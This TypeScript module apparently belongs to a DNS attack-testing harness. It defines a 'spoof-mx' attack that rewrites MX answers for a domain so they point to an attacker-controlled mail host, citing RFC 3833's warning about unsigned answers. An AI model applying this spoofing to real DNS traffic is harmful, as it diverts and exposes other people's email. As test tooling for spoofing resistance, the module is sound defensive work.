/** Names a mail host of the attacker's own in place of the domain's (RFC 3833 section 2.2): an MX answer without DNSSEC is anybody's word. */
import { pass, type Attack } from './attack';
import { attackersMx } from './own-hosts';
import { isAnswerTo, withAnswers } from './dns-answer';

export const spoofMx: Attack = {
  id: 'spoof-mx',
  dns: ({ message, domain }) =>
    isAnswerTo(message, domain, 'MX')
      ? withAnswers(message, [{ type: 'MX', preference: 1, exchange: attackersMx(domain) }])
      : pass,
};
